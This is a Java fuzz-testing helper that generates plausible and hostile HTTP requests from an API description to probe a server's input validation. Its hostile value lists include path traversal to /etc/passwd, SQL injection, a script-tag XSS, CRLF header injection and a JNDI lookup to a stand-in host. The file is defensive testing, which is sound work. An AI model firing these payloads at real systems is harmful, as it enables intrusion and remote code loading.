package org.vigil.e2e;

import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.UUID;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * Inputs for every operation of the API description, half plausible (typed as the schema says,
 * so the request reaches the code behind validation) and half hostile: NUL, lone surrogates,
 * right-to-left overrides, huge and non-finite numbers, wrong types, very long and deeply nested
 * values, bodies that are not JSON. The shape of each request follows a seeded random; the
 * hostile values are sampled from jqwik's arbitraries, and a failure names the whole request.
 */
final class HostileInputs {

    /** One request: method, path with query, body bytes (null for none) and its content type. */
    record Request(String method, String pathAndQuery, byte[] body, String contentType) {

        @Override
        public String toString() {
            String shown = body == null ? "" : new String(body, StandardCharsets.UTF_8);
            return method + " " + pathAndQuery + (contentType == null ? "" : " [" + contentType + "] ")
                    + (shown.length() > 300 ? shown.substring(0, 300) + "…" : shown);
        }
    }

    /**
     * Hostile text for parameters: short enough that the request line stays within the gateway's
     * limit (a longer one is a 414 before any routing, which is not what these inputs test).
     */
    static final Arbitrary<String> HOSTILE_PARAMETER = Arbitraries.oneOf(
            Arbitraries.of(
                    "\u0000",
                    "a\u0000b",
                    "\uD800",
                    "x\uDC00y",
                    "\u202Eevil\u202C.exe",
                    "\u2066isolate\u2069",
                    "\uFEFF",
                    "\uFFFF",
                    "%00",
                    "../../../etc/passwd",
                    "' OR 1=1 --",
                    "<script>alert(1)</script>",
                    "\r\nX-Injected: 1",
                    "${jndi:ldap://example.invalid/a}",
                    "NaN",
                    "-Infinity",
                    "1e309",
                    "-0",
                    "9".repeat(200),
                    ""),
            Arbitraries.strings().all().ofMaxLength(40),
            Arbitraries.strings().withCharRange('\u0590', '\u06FF').ofMaxLength(30));

    /** Hostile text for bodies: what a parameter may hold, and long text too. */
    static final Arbitrary<String> HOSTILE_TEXT = Arbitraries.oneOf(
            HOSTILE_PARAMETER, Arbitraries.strings().ascii().ofMinLength(2_000).ofMaxLength(20_000));

    /** A raw JSON value of any type, often not the one the schema wants. */
    static final Arbitrary<String> HOSTILE_JSON = Arbitraries.oneOf(
            HOSTILE_TEXT.map(HostileInputs::quoted),
            Arbitraries.of(
                    "null",
                    "true",
                    "0",
                    "-1",
                    "1e309",
                    "-1e309",
                    "123456789012345678901234567890",
                    "0.0000000000000000000000000001",
                    "NaN",
                    "Infinity",
                    "[]",
                    "{}",
                    "[null]",
                    "{\"\":null}",
                    "\"\\ud800\"",
                    "\"\\u0000\""),
            Arbitraries.integers().map(String::valueOf),
            Arbitraries.doubles().map(String::valueOf));

    /** Whole bodies that are not the JSON an operation reads. */
    static final Arbitrary<String> HOSTILE_BODY = Arbitraries.of(
            "",
            "{",
            "}",
            "[]",
            "null",
            "\"text\"",
            "{}trailing",
            "{} {}",
            "{\"a\":1,\"a\":2}",
            "[".repeat(10_000) + "]".repeat(10_000),
            "{\"a\":".repeat(3_000) + "1" + "}".repeat(3_000),
            "\u0000",
            "<xml/>");

    private final Random random;

    HostileInputs(Random random) {
        this.random = random;
    }

    Request request(ApiDocument.Operation operation) {
        String path = operation.path();
        StringBuilder query = new StringBuilder();
        for (JsonObject parameter : operation.parameters()) {
            String name = parameter.getString("name");
            JsonObject schema = operation.document().resolve(parameter.getJsonObject("schema", new JsonObject()));
            String in = parameter.getString("in");
            if ("path".equals(in)) {
                path = path.replace(
                        "{" + name + "}", encode(chance(0.5) ? plainText(schema) : sample(HOSTILE_PARAMETER)));
            } else if ("query".equals(in) && chance(0.6)) {
                query.append(query.isEmpty() ? "?" : "&")
                        .append(encode(name))
                        .append('=')
                        .append(encode(chance(0.5) ? plainText(schema) : sample(HOSTILE_PARAMETER)));
            }
        }
        if (chance(0.05)) {
            query.append(query.isEmpty() ? "?" : "&").append("undeclared=1");
        }
        JsonObject schema = operation.bodySchema();
        if (schema == null) {
            return new Request(operation.method(), path + query, null, null);
        }
        String body = chance(0.15) ? sample(HOSTILE_BODY) : json(schema, operation.document(), 0);
        String contentType = chance(0.05) ? null : chance(0.05) ? "text/plain" : "application/json";
        return new Request(operation.method(), path + query, bytes(body), contentType);
    }

    /** A JSON value for {@code schema}: typed as it says, or (one time in three) hostile. */
    private String json(JsonObject schema, ApiDocument document, int depth) {
        JsonObject resolved = document.resolve(schema);
        if (depth > 0 && chance(0.3)) {
            return sample(HOSTILE_JSON);
        }
        String type = type(resolved);
        if (resolved.containsKey("enum") && chance(0.8)) {
            JsonArray values = resolved.getJsonArray("enum");
            return quoted(String.valueOf(values.getValue(random.nextInt(values.size()))));
        }
        switch (type) {
            case "object": {
                JsonObject properties = resolved.getJsonObject("properties", new JsonObject());
                List<String> fields = new ArrayList<>();
                for (String name : properties.fieldNames()) {
                    if (depth < 4 && chance(0.85)) {
                        fields.add(quoted(name) + ":" + json(properties.getJsonObject(name), document, depth + 1));
                    }
                }
                return "{" + String.join(",", fields) + "}";
            }
            case "array": {
                JsonObject items = resolved.getJsonObject("items", new JsonObject());
                List<String> values = new ArrayList<>();
                int count = chance(0.05) ? 500 : random.nextInt(3);
                for (int i = 0; i < count; i++) {
                    values.add(depth < 4 ? json(items, document, depth + 1) : "null");
                }
                return "[" + String.join(",", values) + "]";
            }
            case "integer":
                return String.valueOf(random.nextInt(2000) - 100);
            case "number":
                return String.valueOf(random.nextDouble() * 100);
            case "boolean":
                return String.valueOf(random.nextBoolean());
            default:
                return quoted(plainText(resolved));
        }
    }

    /** A value of the schema's type and format, written as text (a path or query parameter). */
    private String plainText(JsonObject schema) {
        String format = schema.getString("format", "");
        switch (type(schema)) {
            case "integer":
                return String.valueOf(random.nextInt(200) - 10);
            case "number":
                return String.valueOf(random.nextDouble() * 180 - 90);
            case "boolean":
                return String.valueOf(random.nextBoolean());
            default:
                if (schema.containsKey("enum")) {
                    JsonArray values = schema.getJsonArray("enum");
                    return String.valueOf(values.getValue(random.nextInt(values.size())));
                }
                return switch (format) {
                    case "uuid" -> UUID.randomUUID().toString();
                    case "date" -> "2026-02-" + (10 + random.nextInt(18));
                    case "date-time" -> "2026-02-14T12:00:00Z";
                    case "uri", "url" -> "https://example.org/" + random.nextInt(1000);
                    default ->
                        sample(Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(12));
                };
        }
    }

    private static String type(JsonObject schema) {
        Object type = schema.getValue("type");
        if (type instanceof JsonArray types) {
            return types.stream()
                    .filter(t -> !"null".equals(t))
                    .findFirst()
                    .map(String::valueOf)
                    .orElse("string");
        }
        if (type == null) {
            return schema.containsKey("properties") ? "object" : "string";
        }
        return type.toString();
    }

    private <T> T sample(Arbitrary<T> arbitrary) {
        // jqwik generates from a seed only on its own engine's threads; outside them it samples
        return arbitrary.sample();
    }

    private boolean chance(double p) {
        return random.nextDouble() < p;
    }

    /**
     * A JSON string literal with every character outside printable ASCII escaped as {@code \\uXXXX}:
     * NUL and lone surrogates reach the server's parser as the JSON escapes a client can send.
     */
    static String quoted(String text) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20 || c > 0x7e) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    /**
     * Percent-encoded UTF-8, except that a lone surrogate is written as the bytes a careless
     * encoder produces for it ({@code %ED%A0%80}): not UTF-8, and the server must say so.
     */
    static String encode(String text) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (Character.isSurrogate(c)
                    && !(Character.isHighSurrogate(c)
                            && i + 1 < text.length()
                            && Character.isLowSurrogate(text.charAt(i + 1)))) {
                out.append(String.format(
                        "%%%02X%%%02X%%%02X", 0xE0 | (c >> 12), 0x80 | ((c >> 6) & 0x3F), 0x80 | (c & 0x3F)));
            } else if (Character.isHighSurrogate(c)) {
                out.append(URLEncoder.encode(text.substring(i, i + 2), StandardCharsets.UTF_8)
                        .replace("+", "%20"));
                i++;
            } else {
                out.append(URLEncoder.encode(String.valueOf(c), StandardCharsets.UTF_8)
                        .replace("+", "%20"));
            }
        }
        return out.toString();
    }

    private static byte[] bytes(String body) {
        return body.getBytes(StandardCharsets.UTF_8);
    }
}
